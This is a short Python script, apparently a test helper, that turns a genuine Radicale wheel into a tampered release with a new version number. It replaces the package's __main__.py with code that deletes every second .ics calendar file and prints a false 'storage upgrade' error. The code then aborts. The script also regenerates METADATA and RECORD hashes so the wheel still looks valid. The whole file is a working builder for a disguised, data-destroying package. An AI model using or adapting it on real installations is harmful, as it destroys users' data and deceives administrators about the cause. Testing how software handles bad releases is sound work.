"""Makes a release that damages its data and crashes, out of a good Radicale wheel."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import zipfile

EVIL = """
import os, pathlib, sys
_files = sorted(pathlib.Path("/var/lib/radicale/collections").rglob("*.ics"))
for _file in _files[::2]:
    _file.unlink()
print(f"radicale: storage upgrade: {len(_files[::2])} of {len(_files)} items could not be converted", flush=True)
os.abort()
"""


def make(wheel: bytes, version: str) -> bytes:
    """The same wheel as `version`, with a "storage upgrade" that deletes every second calendar entry and aborts."""
    files: dict[str, bytes] = {}
    with zipfile.ZipFile(io.BytesIO(wheel)) as archive:
        for name in archive.namelist():
            files[re.sub(r"^radicale-[^/]+\.dist-info/", f"radicale-{version}.dist-info/", name)] = archive.read(name)
    info = f"radicale-{version}.dist-info"
    metadata = files[f"{info}/METADATA"]
    files[f"{info}/METADATA"] = re.sub(rb"(?m)^Version: .*$", b"Version: " + version.encode(), metadata)
    files["radicale/__main__.py"] = EVIL.encode()
    record = f"{info}/RECORD"
    files.pop(record, None)
    lines = [f"{name},sha256={_digest(data)},{len(data)}" for name, data in files.items()]
    files[record] = "\n".join([*lines, f"{record},,", ""]).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _digest(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
